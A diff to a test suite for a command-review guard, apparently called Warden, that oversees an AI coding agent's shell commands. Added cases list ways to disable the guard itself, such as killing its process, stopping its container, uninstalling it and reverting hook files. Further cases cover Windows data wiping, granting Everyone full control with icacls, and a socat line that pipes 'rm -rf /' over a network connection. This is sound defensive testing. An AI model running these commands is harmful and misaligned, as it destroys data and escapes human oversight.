@@ -39,11 +39,33 @@ describe('supervision_tampering: Warden protects its own hooks from every tool',
     'perl -e \'open(F, ">$ENV{HOME}/.claude/settings.json"); print F "{}"\'',
     "php -r \"file_put_contents(getenv('HOME') . '/.codex/hooks.json', '{}');\"",
     'powershell -Command "Set-Content -Path .claude\\settings.json -Value x"',
+    // Warden itself stopped or removed, and hooks put back as a commit had them.
+    'pkill -f warden',
+    'kill $(pgrep -f "warden up")',
+    'systemctl --user stop warden',
+    'docker stop warden-gate',
+    'kubectl -n warden scale deploy/warden-reviewer --replicas=0',
+    'npm uninstall -g @warden/cli',
+    'killall nats-server',
+    'git checkout -- .claude/settings.json',
+    'git restore .codex/hooks.json',
   ])('blocks %s', (command) => {
     expect(verdictOf(supervisionTamperingRule, command)).toBe('block');
   });
 
-  it.each(['cat .claude/settings.json', 'jq .hooks ~/.claude/settings.json', 'ls .claude/hooks', 'mkdir -p .claude/commands', 'claude --version'])('leaves %s alone', (command) => {
+  it.each([
+    'cat .claude/settings.json',
+    'jq .hooks ~/.claude/settings.json',
+    'ls .claude/hooks',
+    'mkdir -p .claude/commands',
+    'claude --version',
+    'docker stop vaultwarden',
+    'pgrep -f warden',
+    'kubectl -n warden scale deploy/warden-reviewer --replicas=3',
+    'systemctl status warden',
+    'git restore --staged .claude/settings.json',
+    'git checkout -- src/app.ts',
+  ])('leaves %s alone', (command) => {
     expect(verdictOf(supervisionTamperingRule, command)).toBeNull();
   });
 
@@ -65,6 +87,10 @@ describe('kinds of harm, on Linux, macOS and Windows', () => {
     ['system_data_destruction', 'diskutil eraseDisk JHFS+ X disk2', 'block'],
     ['system_data_destruction', 'vssadmin delete shadows /all /quiet', 'block'],
     ['system_data_destruction', 'cmd /c "rd /s /q C:\\Users\\dev"', 'block'],
+    ['system_data_destruction', 'Get-ChildItem C:\\Users -Recurse | Remove-Item -Recurse -Force', 'block'],
+    ['privilege_escalation', 'takeown /f C:\\Windows\\System32 /r', 'require_approval'],
+    ['privilege_escalation', 'icacls C:\\Windows /grant Everyone:F /t', 'require_approval'],
+    ['privilege_escalation', 'icacls data /grant "Everyone:(OI)(CI)F" /t', 'require_approval'],
     ['system_data_destruction', 'dscl . -delete /Users/alice', 'require_approval'],
     ['system_data_destruction', 'lvremove vg/data', 'require_approval'],
     ['system_data_destruction', 'taskkill /f /im explorer.exe', 'block'],
@@ -203,6 +229,10 @@ describe('kinds of harm, on Linux, macOS and Windows', () => {
     'Set-ExecutionPolicy Bypass -Scope Process -Force',
     'Set-ExecutionPolicy -Scope CurrentUser -ExecutionPolicy RemoteSigned',
     'fdesetup status',
+    'Get-ChildItem .\\build -Recurse | Remove-Item -Force',
+    'Get-ChildItem -Path "C:\\Users\\Yash Sud\\.gemini\\brain\\4e73" -Filter "*.metadata.json" -Recurse | Remove-Item -Force',
+    'icacls .\\logs /grant "dev:(OI)(CI)M"',
+    'takeown /f .\\build /r',
     'echo "HISTFILE=/dev/null is how history is switched off"',
     'export HISTSIZE=10000',
     'dockerd -H unix:///var/run/docker.sock',
@@ -323,6 +353,8 @@ describe('commands written inside others', () => {
     expect(JSON.stringify(wipe)).toContain('Recursive deletion of /');
     expect(review('socat TCP:collector.example:4444 SYSTEM:"rm -rf ~"').verdict).toBe('block');
     expect(review('socat - TCP:localhost:8080 EXEC:date').verdict).not.toBe('block');
+    // socat's own escape of a space, inside the shell's quotes.
+    expect(review("socat TCP:collector.example:4444 EXEC:'rm\\ -rf\\ /'").verdict).toBe('block');
   });
 
   it('reads the pattern a deletion in code globs as what it deletes, here-documents included', () => {
